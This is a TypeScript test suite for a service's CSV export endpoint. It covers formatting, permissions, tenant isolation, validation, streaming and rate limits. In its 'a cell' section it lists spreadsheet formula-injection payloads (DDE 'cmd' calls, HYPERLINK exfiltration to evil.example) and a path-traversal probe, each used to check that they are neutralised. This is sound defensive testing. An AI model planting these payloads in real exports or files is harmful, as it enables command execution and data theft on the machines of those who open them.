import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { encodeId } from '../../src/kernel/id.ts';
import { reads } from '../../src/kernel/metrics.ts';
import { createRates } from '../../src/kernel/rates.ts';
import { harmless } from '../../src/server/exports/table.ts';
import { settings } from '../kit/client.ts';
import { stopClock } from '../kit/clock.ts';
import { testDatabase } from '../kit/db.ts';
import type { Person } from '../kit/viewers.ts';
import { makePopulatedWorld, makeWorld, type World } from '../kit/world.ts';
import { type Listening, listen, type Reply, reply } from './listening.ts';

let server: Listening;
beforeAll(async () => {
  server = await listen(settings, { allowedOrigins: ['https://dashboard.example'] });
});
afterAll(() => server.close());

type Parameters = Record<string, string>;

async function credentialOf(world: World, person: Person): Promise<string> {
  const { secret } =
    person.role.kind === 'CLIENT'
      ? await world.session({ user: person })
      : await world.token(person, { lastUsedAt: new Date() });
  return `Bearer ${secret}`;
}

async function fetchTable(
  world: World,
  list: string,
  parameters: Parameters = {},
  person: Person = world.admin,
): Promise<Reply> {
  const headers = { authorization: await credentialOf(world, person) };
  return await reply(`${server.url}/exports/${list}.csv?${new URLSearchParams(parameters)}`, { headers });
}

/** The rows of a table that RFC 4180 describes, the columns' names first. */
function rowsIn(text: string): string[][] {
  const rows: string[][] = [];
  for (const line of text.replace(/\r\n$/, '').split(/\r\n(?=(?:[^"]*"[^"]*")*[^"]*$)/)) {
    const cells = [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^",]*))/g)];
    rows.push(cells.map(([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? ''));
  }
  return rows;
}

/** The rows below the names, each as an object. */
function recordsIn(text: string): Record<string, string>[] {
  const [names = [], ...rows] = rowsIn(text);
  return rows.map((row) => Object.fromEntries(names.map((name, index) => [name, row[index] ?? ''])));
}

const numbersIn = ({ text }: Reply) => recordsIn(text).map(({ Number: number }) => number);

describe('an export', () => {
  test('of orders is a table for a spreadsheet', async () => {
    const clock = stopClock('2026-11-21T10:00:00Z');
    const world = await makeWorld();
    const member = await world.member({ firstName: 'Zoë', lastName: 'Quill' });
    const client = await world.client({
      firstName: 'Ana',
      lastName: 'Núñez',
      email: 'ana@example.com',
      company: 'A, B & "C"',
    });
    const tags = [await world.tag('urgent'), await world.tag('web')];
    const fields = { number: 'AAAA1111', serviceName: 'Two\r\nlines', price: '1234.5', quantity: 3 };
    await world.order({ ...fields, client, employees: [member], tags, createdAt: clock.now() });
    const { status, headers, text } = await fetchTable(world, 'orders');
    expect([status, headers.get('content-type'), headers.get('content-disposition')]).toEqual([
      200,
      'text/csv; charset=utf-8; header=present',
      'attachment; filename="orders 2026-11-21.csv"',
    ]);
    expect(headers.get('cache-control')).toBe('no-store');
    expect(text.split('\r\n')[0]).toBe(
      '"Number","Service","Quantity","Price","Currency","Status","Client","Email","Company","Employees","Tags","Invoice","Paid with","Created","Started","Due","Completed"',
    );
    expect(text).toContain('"A, B & ""C"""');
    expect(recordsIn(text)).toEqual([
      {
        Number: 'AAAA1111',
        Service: 'Two\r\nlines',
        Quantity: '3',
        Price: '1234.50',
        Currency: 'USD',
        Status: 'In Progress',
        Client: 'Ana Núñez',
        Email: 'ana@example.com',
        Company: 'A, B & "C"',
        Employees: 'Zoë Quill',
        Tags: 'urgent; web',
        Invoice: '',
        'Paid with': '',
        Created: '2026-11-21T10:00:00.000Z',
        Started: '',
        Due: '',
        Completed: '',
      },
    ]);
  });

  test('is there of each list, and has every row that the list has', async () => {
    const world = await makePopulatedWorld();
    for (const list of ['orders', 'invoices', 'clients', 'payments']) {
      const { data } = await world.as(world.admin).answer(`{ ${list} { totalCount } }`);
      const { status, text } = await fetchTable(world, list);
      const { totalCount } = (data as Record<string, { totalCount: number }>)[list] as { totalCount: number };
      expect([list, status, recordsIn(text).length]).toEqual([list, 200, totalCount]);
      expect(totalCount).toBeGreaterThan(0);
    }
    const [payment] = recordsIn((await fetchTable(world, 'payments')).text);
    expect(payment).toMatchObject({ Kind: 'MANUAL', Status: 'SUCCEEDED', Amount: '10.00', Currency: 'USD' });
  });

  test('of nothing has the columns’ names', async () => {
    const { status, text } = await fetchTable(await makeWorld(), 'payments');
    expect([status, rowsIn(text).length, text.endsWith('\r\n')]).toEqual([200, 1, true]);
  });

  test('is filtered, searched and ordered as the list is', async () => {
    const world = await makeWorld();
    const client = await world.client({ lastName: 'Findable' });
    for (const [number, price] of [
      ['A', '10'],
      ['B', '30'],
      ['C', '20'],
    ] as const)
      await world.order({ number, price });
    await world.order({ number: 'D', price: '5', client });
    const sort = JSON.stringify([{ field: 'PRICE', direction: 'DESC' }]);
    expect(numbersIn(await fetchTable(world, 'orders', { sort }))).toEqual(['B', 'C', 'A', 'D']);
    const filter = JSON.stringify({ price: { gte: '10' }, not: { number: { eq: 'C' } } });
    expect(numbersIn(await fetchTable(world, 'orders', { sort, filter }))).toEqual(['B', 'A']);
    expect(numbersIn(await fetchTable(world, 'orders', { search: 'findab' }))).toEqual(['D']);
  });

  test('begins with the mark that Excel looks for, when it is for Excel', async () => {
    const world = await makeWorld();
    const bytes = async (parameters: Parameters) => {
      const headers = { authorization: await credentialOf(world, world.admin) };
      const response = await fetch(`${server.url}/exports/orders.csv?${new URLSearchParams(parameters)}`, { headers });
      return [...new Uint8Array(await response.arrayBuffer()).subarray(0, 3)];
    };
    expect(await bytes({ excel: 'true' })).toEqual([0xef, 0xbb, 0xbf]);
    expect(await bytes({})).not.toEqual([0xef, 0xbb, 0xbf]);
  });
});

describe('who may', () => {
  test('sees the rows that the list shows, and is refused where the list refuses', async () => {
    const world = await makeWorld();
    const group = await world.group();
    const own = await world.member({ grants: { orderAccess: 1 }, groupId: group.id });
    const inGroup = await world.member({ grants: { orderAccess: 2 }, groupId: group.id });
    const [client, other] = [await world.client(), await world.client()];
    await world.order({ number: 'OWN', employees: [own], client });
    await world.order({ number: 'OTHER', client: other });
    const numbers = async (person: Person) => numbersIn(await fetchTable(world, 'orders', {}, person)).sort();
    expect(await numbers(world.admin)).toEqual(['OTHER', 'OWN']);
    expect(await numbers(own)).toEqual(['OWN']);
    expect(await numbers(inGroup)).toEqual(['OWN']);
    expect(await numbers(client)).toEqual(['OWN']);
    const blind = await world.member({ grants: {} });
    for (const list of ['orders', 'invoices', 'clients', 'payments']) {
      const { status, text, headers } = await fetchTable(world, list, {}, blind);
      expect([status, headers.get('content-type')]).toEqual([403, 'application/json; charset=utf-8']);
      expect(JSON.parse(text)).toEqual({ error: `The permission ${list}.read is needed.`, code: 'FORBIDDEN' });
    }
  });

  test('sees nothing of another organization, whatever is asked for', async () => {
    const [world, stranger] = [await makePopulatedWorld(), await makePopulatedWorld()];
    for (const filter of [
      { id: { in: [stranger.ids.Order, stranger.uuids.Order] } },
      { clientId: { eq: stranger.ids.Client } },
      { number: { eq: stranger.one.order.number } },
    ]) {
      expect(numbersIn(await fetchTable(world, 'orders', { filter: JSON.stringify(filter) }))).toEqual([]);
    }
    for (const list of ['orders', 'invoices', 'clients', 'payments']) {
      expect((await fetchTable(world, list)).text).not.toContain(stranger.one.client.email);
    }
  });

  test('does not see what is for the staff only', async () => {
    const world = await makeWorld();
    const client = await world.client();
    await world.order({ client, tags: [await world.tag('difficult client')] });
    expect(recordsIn((await fetchTable(world, 'orders')).text)[0]?.Tags).toBe('difficult client');
    expect(recordsIn((await fetchTable(world, 'orders', {}, client)).text)[0]?.Tags).toBe('');
  });

  test('is somebody: no stranger, no wrong token, no page of somebody else’s with a cookie', async () => {
    const world = await makeWorld();
    const { secret } = await world.session({ user: world.admin });
    const ask = (headers: Record<string, string>) => reply(`${server.url}/exports/orders.csv`, { headers });
    const cookie = `__Host-session=${secret}`;
    for (const headers of [
      {},
      { authorization: 'Bearer sx_live_wrong' },
      { authorization: 'Basic eA==' },
      { cookie },
      { cookie, 'sec-fetch-site': 'cross-site' },
    ]) {
      const { status, text } = await ask(headers as Record<string, string>);
      expect([status, JSON.parse(text).code]).toEqual([401, 'UNAUTHENTICATED']);
    }
    expect((await ask({ cookie, 'sec-fetch-site': 'same-origin' })).status).toBe(200);
  });

  test('may be a page of a listed origin', async () => {
    const world = await makeWorld();
    const headers = { authorization: await credentialOf(world, world.admin), origin: 'https://dashboard.example' };
    const { headers: told } = await reply(`${server.url}/exports/orders.csv`, { headers });
    expect(told.get('access-control-allow-origin')).toBe('https://dashboard.example');
  });
});

describe('a request', () => {
  test.each<[string, string, Parameters, string]>([
    ['with a filter that is no JSON', 'orders', { filter: '{' }, 'The parameter filter must be JSON.'],
    ['with a filter that is none', 'orders', { filter: '{"nothing":1}' }, 'nothing'],
    [
      'with a misspelt parameter, which would export everything',
      'orders',
      { filters: '{}' },
      'There is no parameter filters here.',
    ],
    ['with a parameter that the list does not have', 'payments', { search: 'x' }, 'There is no parameter search here.'],
    ['with a page of its own choice', 'orders', { first: '1' }, 'There is no parameter first here.'],
    ['with a filter nested too deep', 'orders', { filter: `${'{"not":'.repeat(6)}{}${'}'.repeat(6)}` }, 'nests'],
  ])('%s is refused in words', async (_, list, parameters, words) => {
    const { status, text } = await fetchTable(await makeWorld(), list, parameters);
    expect([status, JSON.parse(text).error]).toEqual([400, expect.stringContaining(words)]);
  });

  test('that is no GET, or of another list, finds nothing', async () => {
    expect((await reply(`${server.url}/exports/orders.csv`, { method: 'POST' })).status).toBe(405);
    for (const path of ['/exports/logs.csv', '/exports/orders', '/exports/..%2forders.csv', '/exports/orders.csv/x']) {
      expect((await reply(`${server.url}${path}`)).status).toBe(404);
    }
  });
});

describe('a cell', () => {
  test.each([
    ...['=1+1', '+1+1', '-1+1', '@SUM(A1)', '=HYPERLINK("http://evil.example","Click")', "=cmd|' /C calc'!A0"],
    ...['\t=1+1', '\r=1+1', '\n=1+1', '＝1+1', '＋1', '－1', '＠x', '-2+3+cmd|"/C calc"!A0'],
  ])('that a spreadsheet would obey is one that it shows: %j', async (text) => expect(harmless(text)).toBe(`'${text}`));

  test.each(['-5.00', '0', 'a=b', 'a-b', '', "'=1", '1+1', 'ana@example.com', '2026-11-21'])(
    'that it would show stays as it is: %j',
    (text) => expect(harmless(text)).toBe(text),
  );

  test('of a client’s own making does nothing to the accountant', async () => {
    const world = await makeWorld();
    const evil = '=HYPERLINK("http://evil.example?"&A1,"Click, please")';
    const client = await world.client({ firstName: evil, lastName: '@x', company: '-1+1;=2' });
    await world.order({ client, serviceName: '+1' });
    const [order] = recordsIn((await fetchTable(world, 'orders')).text);
    expect(order).toMatchObject({ Client: `'${evil} @x`, Company: "'-1+1;=2", Service: "'+1" });
    const [row] = recordsIn(
      (await fetchTable(world, 'clients', { filter: `{"id":{"eq":"${encodeId('Client', client.id)}"}}` })).text,
    );
    expect(row).toMatchObject({ Name: `'${evil} @x`, Company: "'-1+1;=2" });
  });
});

describe('five thousand rows', () => {
  let world: World;
  const count = 5_000;

  beforeAll(async () => {
    world = await makeWorld();
    const client = await world.client();
    const invoice = await world.invoice({ client });
    await world.owner.query(
      `insert into payments (organization_id, invoice_id, client_id, kind, status, processor, amount, currency, settled_at, created_at, note)
       select $1, $2, $3, 'MANUAL', 'SUCCEEDED', 'Manual', n, 'USD', now(), now() - n * interval '1 minute', repeat('note ', 60)
       from generate_series(1, $4) n`,
      [world.organizationId, invoice.id, client.id, count],
    );
  });

  const compiled = async () => (await reads.get()).values.find(({ labels }) => labels.path === 'compiled')?.value ?? 0;

  test('come in order, each once, a page at a time', async () => {
    const before = await compiled();
    const amounts = recordsIn((await fetchTable(world, 'payments')).text).map(({ Amount: amount }) => amount);
    expect(amounts).toEqual(Array.from({ length: count }, (_, index) => `${index + 1}.00`));
    expect(await compiled()).toBe(before + count / 100);
  });

  test('take no more memory than a few', async () => {
    setFlagsFromString('--expose-gc');
    const collect = runInNewContext('gc') as () => void;
    let most = 0;
    const heap = () => {
      collect();
      return process.memoryUsage().heapUsed;
    };
    const before = heap();
    const headers = { authorization: await credentialOf(world, world.admin) };
    const response = await fetch(`${server.url}/exports/payments.csv`, { headers });
    let bytes = 0;
    let chunks = 0;
    for await (const chunk of response.body as ReadableStream<Uint8Array>) {
      bytes += chunk.length;
      chunks += 1;
      if (chunks % 200 === 0) most = Math.max(most, heap() - before);
    }
    expect(bytes).toBeGreaterThan(1_500_000);
    expect(most).toBeLessThan(20_000_000);
  });

  test('end with the connection, not with a table that looks whole, when something fails on the way', async () => {
    const headers = { authorization: await credentialOf(world, world.admin) };
    const response = await fetch(`${server.url}/exports/payments.csv`, { headers });
    const reader = (response.body as ReadableStream<Uint8Array>).getReader();
    await reader.read();
    const locked = await world.owner.connect();
    try {
      // Whoever reads a payment now waits, and is then told that there is no database.
      await locked.query('begin; lock table payments in access exclusive mode');
      const ended = (async () => {
        for (;;) if ((await reader.read()).done) return 'whole';
      })().catch(() => 'broken');
      const cancel = async () => {
        await locked.query(
          `select pg_terminate_backend(pid) from pg_stat_activity
           where wait_event_type = 'Lock' and datname = current_database() and pid <> pg_backend_pid()`,
        );
      };
      const cancelling = setInterval(() => void cancel().catch(() => {}), 50);
      expect(await ended).toBe('broken');
      clearInterval(cancelling);
    } finally {
      await locked.query('rollback');
      locked.release();
    }
  });
});

test('more rows than there may be are not exported at all', async () => {
  const small = await listen(settings, { mostExportedRows: 2 });
  const world = await makeWorld();
  for (const _ of [1, 2]) await world.client();
  const headers = { authorization: await credentialOf(world, world.admin) };
  expect((await reply(`${small.url}/exports/clients.csv`, { headers })).status).toBe(200);
  await world.client();
  const { status, text } = await reply(`${small.url}/exports/clients.csv`, { headers });
  expect([status, JSON.parse(text)]).toEqual([
    400,
    { error: 'An export has at most 2 rows. Narrow it with a filter.', code: 'LIMIT_REACHED' },
  ]);
  await small.close();
});

describe('what it costs', () => {
  async function makeOrders(count: number) {
    const world = await makeWorld();
    const client = await world.client();
    for (let made = 0; made < count; made += 1) await world.order({ client });
    const { id, secret } = await world.token(world.admin, { lastUsedAt: new Date() });
    return { key: `${world.organizationId} ${id}`, headers: { authorization: `Bearer ${secret}` } };
  }

  async function charging(capacity: number) {
    const { database, log } = await testDatabase();
    const rates = createRates({ pool: database.pool, log, settleMs: null });
    return { rates, server: await listen(settings, { charges: { rates, perMinute: capacity } }) };
  }

  test('is paid for page by page, and with nothing left it is refused', async () => {
    stopClock();
    const { key, headers } = await makeOrders(101);
    const capacity = 10_000;
    const { rates, server } = await charging(capacity);
    const spentOn = async (parameters: string) => {
      const before = rates.balanceOf({ key, capacity }).remaining;
      expect((await reply(`${server.url}/exports/orders.csv${parameters}`, { headers })).status).toBe(200);
      return before - rates.balanceOf({ key, capacity }).remaining;
    };
    const nothing = await spentOn('?search=nobody');
    // Two pages, each of which could have had a hundred rows.
    expect(await spentOn('')).toBeGreaterThan(2 * nothing);
    await rates.take({ key, capacity }, rates.balanceOf({ key, capacity }).remaining);
    const refused = await reply(`${server.url}/exports/orders.csv`, { headers });
    expect([refused.status, JSON.parse(refused.text).code]).toEqual([429, 'RATE_LIMITED']);
    expect(Number(refused.headers.get('retry-after'))).toBeGreaterThan(0);
    await server.close();
  });

  test('is waited for, when some of it is there already', async () => {
    const { key, headers } = await makeOrders(201);
    // A thousand points a second.
    const capacity = 60_000;
    const { rates, server } = await charging(capacity);
    await rates.take({ key, capacity }, capacity - 2_000);
    const { status, text } = await reply(`${server.url}/exports/orders.csv`, { headers });
    expect([status, recordsIn(text).length]).toEqual([200, 201]);
    await server.close();
  });
});
